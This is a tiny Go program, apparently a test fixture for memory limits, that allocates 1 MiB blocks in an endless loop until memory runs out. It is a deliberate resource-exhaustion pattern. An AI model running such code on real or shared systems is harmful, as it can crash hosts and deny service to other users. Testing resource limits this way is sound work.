package main

import "bytes"

func main() {
	blocks := [][]byte{}
	for {
		blocks = append(blocks, bytes.Repeat([]byte("x"), 1<<20))
	}
}
